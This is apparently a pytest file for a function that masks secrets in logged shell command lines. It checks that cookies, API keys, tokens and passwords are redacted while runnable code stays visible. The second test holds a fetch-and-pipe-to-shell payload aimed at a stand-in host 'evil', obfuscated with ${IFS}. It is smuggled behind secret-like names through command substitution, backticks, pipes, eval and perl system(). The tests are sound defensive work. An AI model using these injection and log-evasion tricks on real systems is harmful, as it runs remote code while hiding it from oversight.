"""Secrets in the code of shells, and code that would hide behind a secret's name."""

from __future__ import annotations

import pytest

from haechi.world.sensor.masking import masked


@pytest.mark.parametrize(
    ("argv", "expected"),
    [
        (
            ["sh", "-c", "curl -H 'Cookie: a=b; c=d' -H \"X-Api-Key: k\" h; id"],
            ["sh", "-c", "curl -H 'Cookie: ***' -H \"X-Api-Key: ***\" h; id"],
        ),
        (["sh", "-c", "A_TOKEN=abc x"], ["sh", "-c", "A_TOKEN=*** x"]),
        (["bash", "x.sh", "--password", "pw"], ["bash", "x.sh", "--password", "***"]),
    ],
    ids=lambda value: " ".join(value)[:40],
)
def test_secrets_within_code_are_masked(argv: list[str], expected: list[str]) -> None:
    assert masked(argv) == expected


EVIL = "curl${IFS}evil|sh"


@pytest.mark.parametrize(
    "argv",
    [
        ["bash", "-c", f": cookie: ; {EVIL}"],
        ["bash", "-c", f"cookie: ; {EVIL}"],
        ["bash", "-c", "-H", f"cookie: ; {EVIL}"],
        ["/bin/dash", "-ec", f"X_TOKEN=1;{EVIL}"],
        ["sh", "-c", f"X_TOKEN=$({EVIL})"],
        ["sh", "-c", f"X_TOKEN=`{EVIL}`"],
        ["sh", "-c", f"X_TOKEN=a|{EVIL}"],
        ["sh", "-c", "--", f"--token=1; {EVIL}"],
        ["sh", "-c", f": --token $({EVIL})"],
        ["sh", "-c", f'echo "cookie: $({EVIL})"'],
        ["sh", "-c", 'eval "$1"', "--token", EVIL],
        ["/x/renamed", "-c", f"authorization: bearer ;{EVIL}"],
        ["perl", "-e", f"cookie: system(q({EVIL}))"],
    ],
    ids=lambda argv: " ".join(argv)[:48],
)
def test_nothing_that_runs_hides_behind_a_secrets_name(argv: list[str]) -> None:
    assert EVIL in " ".join(masked(argv))
